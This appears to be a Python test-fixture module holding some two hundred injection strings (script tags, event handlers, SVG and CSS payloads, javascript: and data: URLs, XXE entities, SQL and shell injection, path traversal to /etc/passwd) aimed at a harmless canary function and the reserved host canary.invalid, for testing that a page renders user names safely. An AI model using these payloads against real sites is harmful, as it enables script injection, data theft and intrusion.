"""200 texts that a client may send instead of a name. Each would call `canary(N)`, or ask canary.invalid.

Nothing of them may ever run, load, break out of its place, or turn the text around it. `canary` is set by the
witness of each page; the name canary.invalid leads nowhere (RFC 6761).
"""

from __future__ import annotations

_SCRIPTS = (
    "<script>canary(§)</script>",
    "<SCRIPT>canary(§)</SCRIPT>",
    "<script src=//canary.invalid/§></script>",
    "<script src='data:text/javascript,canary(§)'></script>",
    "<script type=module>canary(§)</script>",
    "<script/x>canary(§)</script>",
    "<scr<script>ipt>canary(§)</scr</script>ipt>",
    "<script>/*§*/canary`§`</script>",
    "</script><script>canary(§)</script>",
    "</script ><script>canary(§)//",
    "<!--<script>canary(§)//-->",
    "--><script>canary(§)</script>",
    "]]><script>canary(§)</script>",
    "</title><script>canary(§)</script>",
    "</textarea><script>canary(§)</script>",
    "</style><script>canary(§)</script>",
    "</noscript><script>canary(§)</script>",
    "</option></select><script>canary(§)</script>",
    "</template><script>canary(§)</script>",
    "<?xml version='1.0'?><script>canary(§)</script>",
    "<script\x0bsrc=//canary.invalid/§></script>",
    "<script>canary(§)",
    "\x00<script>canary(§)</script>",
    "<script nonce='a' integrity=''>canary(§)</script>",
    "<script>import('//canary.invalid/§')</script>",
    '<script type=importmap>{"imports":{"./model.js":"//canary.invalid/§"}}</script>',
)
_HANDLERS = (
    "<img src=x onerror=canary(§)>",
    "<img src=//canary.invalid/§>",
    "<img srcset='//canary.invalid/§ 1x'>",
    "<IMG SRC=x ONERROR=canary(§)>",
    "<img src='x'onerror='canary(§)'>",
    "<img src=x onerror=&#99;anary(§)>",
    "<img/src/onerror=canary(§)>",
    "<body onload=canary(§)>",
    "<input autofocus onfocus=canary(§)>",
    "<select autofocus onfocus=canary(§)></select>",
    "<textarea autofocus onfocus=canary(§)>",
    "<details open ontoggle=canary(§)>x</details>",
    "<video src=x onerror=canary(§)></video>",
    "<video poster=//canary.invalid/§></video>",
    "<audio src=//canary.invalid/§ autoplay></audio>",
    "<source src=x onerror=canary(§)>",
    "<iframe src=javascript:canary(§)></iframe>",
    "<iframe srcdoc='<script>parent.canary(§)</script>'></iframe>",
    "<iframe src=//canary.invalid/§></iframe>",
    "<object data=javascript:canary(§)></object>",
    "<object data=//canary.invalid/§></object>",
    "<embed src=//canary.invalid/§>",
    "<marquee onstart=canary(§)>x</marquee>",
    "<div onpointerover=canary(§) style=position:fixed;inset:0>x</div>",
    "<p style=animation-name:x onanimationstart=canary(§)>x</p>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=canary(§)>",
    "<form action=//canary.invalid/§><button autofocus>x</button></form>",
    "<button formaction=javascript:canary(§)>x</button>",
    "<isindex action=javascript:canary(§) type=image>",
    "<a href=javascript:canary(§) id=arena>x</a>",
    "<a href=//canary.invalid/§ ping=//canary.invalid/§>x</a>",
    "<base href=//canary.invalid/§>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/§'>",
    "<meta http-equiv=refresh content='0;javascript:canary(§)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">§",
    "<link rel=stylesheet href=//canary.invalid/§>",
    "<link rel=preload as=image href=//canary.invalid/§>",
    "<link rel=prefetch href=//canary.invalid/§>",
    "<link rel=dns-prefetch href=//canary.invalid/§>",
    "<dialog open oncancel=canary(§)>x</dialog>",
    "<x onclick=canary(§) tabindex=1 autofocus onfocus=canary(§)>x</x>",
    "<table background=//canary.invalid/§>",
    "<portal src=//canary.invalid/§></portal>",
    "<frameset onload=canary(§)><frame src=//canary.invalid/§></frameset>",
)
_DRAWINGS = (
    "<svg onload=canary(§)>",
    "<svg/onload=canary(§)//",
    "<svg><script>canary(§)</script></svg>",
    "<svg><script href=//canary.invalid/§ /></svg>",
    "<svg><script xlink:href='data:,canary(§)'></script></svg>",
    "<svg><image href=//canary.invalid/§ onerror=canary(§) /></svg>",
    "<svg><use href=//canary.invalid/§#x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary(§) />#x' /></svg>",
    "<svg><a href=javascript:canary(§)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=canary(§) attributeName=x dur=1s /></svg>",
    "<svg><set attributeName=onload to=canary(§) /></svg>",
    "<svg><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='canary(§)'/>"
    "</foreignObject></svg>",
    "<svg><style>@import '//canary.invalid/§';</style></svg>",
    "<svg><style>*{fill:url(//canary.invalid/§)}</style></svg>",
    "<svg><rect fill='url(//canary.invalid/§#x)' width='9' height='9'/></svg>",
    "<svg><filter><feImage href=//canary.invalid/§ /></filter></svg>",
    "<svg><pattern><image href='//canary.invalid/§'/></pattern></svg>",
    "<svg><handler type='application/ecmascript' ev:event='load'>canary(§)</handler></svg>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM '//canary.invalid/§'>]><svg>&x;</svg>",
    "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;'>]><svg><text>&b;§</text></svg>",
    "<?xml-stylesheet href='//canary.invalid/§'?><svg/>",
    "<math><mtext><table><mglyph><style><img src onerror=canary(§)>",
    "<math href=javascript:canary(§)>x</math>",
    "<svg><title><a id='</title><img src onerror=canary(§)>'>",
)
_ADDRESSES = (
    "javascript:canary(§)",
    "JaVaScRiPt:canary(§)",
    "java\tscript:canary(§)",
    "java\nscript:canary(§)",
    "\x01javascript:canary(§)",
    " javascript:canary(§)",
    "javascript://%0acanary(§)",
    "javascript&colon;canary(§)",
    "data:text/html,<script>canary(§)</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==§",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary(§)'/>",
    "vbscript:canary(§)",
    "blob:http://canary.invalid/§",
    "file:///etc/passwd?§",
    "http://canary.invalid/§",
    "//canary.invalid/§",
    "\\\\canary.invalid\\§",
    "/records/../../../etc/passwd?§",
    "?replay=//canary.invalid/§",
    "#code=aaaa§",
    "view-source:http://canary.invalid/§",
    "ws://canary.invalid/§",
)
_PLACES = (
    '"><script>canary(§)</script>',
    "'><script>canary(§)</script>",
    '" onmouseover="canary(§)',
    "' onmouseover='canary(§)",
    "` onmouseover=`canary(§)",
    '" autofocus onfocus="canary(§)" x="',
    '" style="background:url(//canary.invalid/§)',
    '"};canary(§);//',
    "'};canary(§);//",
    '"}]});canary(§);({"a":[{"b":"',
    '\\";canary(§);//',
    "\\';canary(§);//",
    "\\u0022;canary(§);//",
    '","type":"GameAbortedEvent","x":"§',
    '"}\n{"type":"GameAbortedEvent","n":§}',
    "\r\n\r\n<script>canary(§)</script>",
    "\u2028canary(§)//",
    "\u2029canary(§)//",
    "';canary(§);'",
    "';canary(§)//\\';canary(§)//",
    "*/canary(§)/*",
    "-->canary(§)<!--",
    "${canary(§)}",
    "`${canary(§)}`",
    "{{canary(§)}}",
    "{{constructor.constructor('canary(§)')()}}",
    "[[canary(§)]]",
    "<%= canary(§) %>",
    "#{canary(§)}",
    "__proto__§",
    "constructor§",
    '{"__proto__":{"x":"canary(§)"}}',
    "toString§",
    "%s%d%n%x §",
    "'; DROP TABLE bots; -- §",
    "$(canary §)`canary §`;canary §",
    "../../../../etc/passwd§",
    '=HYPERLINK("//canary.invalid/§")',
    "\x1b]8;;http://canary.invalid/§\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[31mcanary §",
)
_STYLES = (
    "<style>*{background:url(//canary.invalid/§)}</style>",
    "<style>@import url(//canary.invalid/§);</style>",
    "<style>@font-face{font-family:x;src:url(//canary.invalid/§)}*{font-family:x}</style>",
    "<style>body{display:none}</style>§",
    "<p style='position:fixed;inset:0;z-index:9'>§</p>",
    "<p style='background:url(//canary.invalid/§)'>x</p>",
    "<p style=width:expression(canary(§))>x</p>",
    "}*{background:url(//canary.invalid/§)}",
    "url(//canary.invalid/§)",
    "red;background:url(//canary.invalid/§)",
    "</style><img src=x onerror=canary(§)>",
    "<link rel=stylesheet href='data:text/css,*{color:red}§'>",
)
_LETTERS = (
    "\u202ecanary(§)\u202c",
    "\u202dcanary(§)",
    "\u2066canary(§)",
    "\u2067\u2068canary(§)\u2069",
    "\u200bcanary\u200c(§\u200d)",
    "\ufeffcanary(§)",
    "abc\u0000def§",
    "\u0007\u0008\u007f§",
    "\ud7ff\ue000§",
    "\U000e0041\U000e0042§",
    "\U0001f600\u200d\U0001f600§",
    "Z\u0351\u036b\u0343\u0366A\u0348\u0310L\u0310\u0311G\u034a\u033eO§",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 §",
    "\uff1cscript\uff1ecanary(§)\uff1c/script\uff1e",
    "\u02bascript\u02bb canary(§)",
    "+ADw-script+AD4-canary(§)+ADw-/script+AD4-",
    "&lt;script&gt;canary(§)&lt;/script&gt;",
    "&#60;script&#62;canary(§)&#60;/script&#62;",
    "&#x3c;img src=x onerror=canary(§)&#x3e;",
    "&amp;lt;script&amp;gt;canary(§)",
    "&nbsp;&shy;&zwj;§",
    "\\x3cscript\\x3ecanary(§)\\x3c/script\\x3e",
    "\\u003cscript\\u003ecanary(§)\\u003c/script\\u003e",
    "%3Cscript%3Ecanary(§)%3C/script%3E",
    "\u0130\u0131\u017f\u212a §",
    " \t §",
    "null§",
    "NaN§",
    "-1e309§",
)
LONG = (
    "<b>" * 300 + "<img src=x onerror=canary(§)>",
    "A" * 3000 + "<script>canary(§)</script>",
    "<!--" + "-" * 2000 + "<svg onload=canary(§)>",
)
"""Very long injections."""

_ALL = (*_SCRIPTS, *_HANDLERS, *_DRAWINGS, *_ADDRESSES, *_PLACES, *_STYLES, *_LETTERS, *LONG)
INJECTIONS = tuple(text.replace("§", str(1000 + nth)) for nth, text in enumerate(_ALL))
"""All injections, each with its own number."""


_HIDDEN = {*range(0x20), *range(0x7F, 0xA0), *range(0x200B, 0x2010), *range(0x2028, 0x202F)}
_HIDDEN |= {*range(0x2060, 0x206A), 0xFEFF}


def visible(text: str) -> str:
    """Return a text without blanks and without characters that hide, turn or break others.

    Names are shown without the latter, and a page shows several blanks in a row as one.
    """
    return "".join(sign for sign in text if ord(sign) not in _HIDDEN and not sign.isspace())


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
_HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
DRAWINGS = tuple(
    _SVG + rest.replace("§", str(2000 + nth))
    for nth, rest in enumerate(
        (
            'onload="canary(§)"><rect width="9" height="9"/></svg>',
            "><script>canary(§)</script><text y='20'>x</text></svg>",
            '><script href="http://canary.invalid/§"/><circle r="9"/></svg>',
            '><image href="http://canary.invalid/§" width="9" height="9"/></svg>',
            '><image xlink:href="http://canary.invalid/§" onerror="canary(§)"/></svg>',
            '><use href="http://canary.invalid/§#x"/></svg>',
            '><rect width="9" height="9" fill="url(http://canary.invalid/§#x)"/></svg>',
            '><rect width="9" height="9" style="fill:url(http://canary.invalid/§)"/></svg>',
            "><style>@import 'http://canary.invalid/§'; * { fill: url(//canary.invalid/§) }</style></svg>",
            f'><foreignObject><img {_HTML} src="x" onerror="canary(§)"/></foreignObject></svg>',
            f'><foreignObject><iframe {_HTML} src="http://canary.invalid/§"/></foreignObject></svg>',
            '><a href="javascript:canary(§)"><rect width="5000" height="5000"/></a></svg>',
            '><animate attributeName="x" dur="1s" onbegin="canary(§)"/></svg>',
            '><set attributeName="href" to="javascript:canary(§)"/></svg>',
            '><filter id="f"><feImage href="http://canary.invalid/§"/></filter></svg>',
            '><text onclick="canary(§)" y="20">&#60;script&#62;canary(§)&#60;/script&#62;</text></svg>',
            f"><g {_HTML}><script>canary(§)</script></g></svg>",
            '><path d="M0 0L9 9" marker-end="url(http://canary.invalid/§#m)"/></svg>',
            "/><!-- canary(§) -->",
        )
    )
)
"""Debug graphics that are well-formed, so that a parser takes them."""
